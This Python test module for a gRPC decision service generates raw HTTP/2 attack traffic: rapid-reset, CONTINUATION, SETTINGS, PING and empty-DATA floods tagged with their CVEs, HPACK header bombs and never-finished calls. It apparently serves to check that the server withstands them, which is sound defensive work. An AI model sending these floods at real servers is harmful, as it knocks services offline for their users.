"""What attackers send after their preface, frame by frame. `STREAMS` is more than any of them can send before it is stopped."""

from __future__ import annotations

from collections.abc import Callable, Iterator, Mapping

from tests.server.serving import check
from tests.transport import frames

CHECK = b"/rolecall.v1.DecisionService/CheckAssumeRole"
MESSAGE = check().SerializeToString()
STREAMS = range(1, 100_000, 2)
INITIAL_WINDOW, MAX_WINDOW = 0x4, 2**31 - 1
NO_WINDOW, WIDE_WINDOW = (INITIAL_WINDOW, 0), (INITIAL_WINDOW, MAX_WINDOW)
WIDE_CONNECTION = frames.frame(0x8, 0, 0, (MAX_WINDOW - 65_535).to_bytes(4, "big"))

Attack = Callable[[], Iterator[bytes]]


def call(stream: int) -> bytes:
    """Return the frames of a whole check."""
    return frames.headers(stream, CHECK) + frames.message(stream, MESSAGE)


def calls() -> Iterator[bytes]:
    return (call(stream) for stream in STREAMS)


# --- floods of frames ---


def rapid_resets() -> Iterator[bytes]:
    """CVE-2023-44487."""
    return (frames.headers(stream, CHECK) + frames.reset(stream) for stream in STREAMS)


def rapid_resets_of_whole_calls() -> Iterator[bytes]:
    return (call(stream) + frames.reset(stream) for stream in STREAMS)


def continuations() -> Iterator[bytes]:
    """CVE-2024-27316 and its like."""
    yield frames.frame(frames.HEADERS, 0, 1, frames.header_block(CHECK))
    for _ in range(50_000):
        yield frames.frame(frames.CONTINUATION, 0, 1, b"\0\1a\1b")


def empty_continuations() -> Iterator[bytes]:
    yield frames.frame(frames.HEADERS, 0, 1, frames.header_block(CHECK))
    for _ in range(50_000):
        yield frames.frame(frames.CONTINUATION, 0, 1)


def settings() -> Iterator[bytes]:
    """CVE-2019-9515."""
    return (frames.frame(frames.SETTINGS, 0, 0, frames.setting(3, 100)) * 50 for _ in range(5_000))


def large_settings() -> Iterator[bytes]:
    return (frames.frame(frames.SETTINGS, 0, 0, frames.setting(3, 100) * 33) for _ in range(5_000))


def pings() -> Iterator[bytes]:
    """CVE-2019-9512."""
    return (frames.frame(frames.PING, 0, 0, b"12345678") * 50 for _ in range(5_000))


def empty_data() -> Iterator[bytes]:
    """CVE-2019-9518."""
    yield frames.headers(1, CHECK)
    for _ in range(5_000):
        yield frames.frame(frames.DATA, 0, 1) * 50


FLOODS: Mapping[str, Attack] = {
    attack.__name__: attack
    for attack in (
        rapid_resets,
        rapid_resets_of_whole_calls,
        continuations,
        empty_continuations,
        settings,
        large_settings,
        pings,
        empty_data,
    )
}


# --- headers that unpack to much more than was sent ---


def header_bomb() -> Iterator[bytes]:
    """Each byte stands for a header of four thousand, on one stream."""
    block = frames.header_block(CHECK) + _big_header() + frames.NEWEST_ENTRY * 12_000
    yield frames.frame(frames.HEADERS, frames.END_HEADERS, 1, block)


def bombs_within_the_limit() -> Iterator[bytes]:
    """Calls whose headers each unpack to 52 KB: more than a call may have, and less than what ends the connection."""
    first = frames.header_block(CHECK) + _big_header()
    bomb = frames.header_block(CHECK) + frames.NEWEST_ENTRY * 12
    for stream in range(1, 6_000, 2):
        yield frames.frame(frames.HEADERS, frames.END_HEADERS, stream, first if stream == 1 else bomb)


def _big_header() -> bytes:
    return frames.indexed(b"a", b"x" * 4_000)


# --- calls that are never complete ---


def calls_without_a_message() -> Iterator[bytes]:
    extra = [(b"padding", b"x" * 200)]
    return (frames.headers(stream, CHECK, extra) for stream in range(1, 2_001, 2))
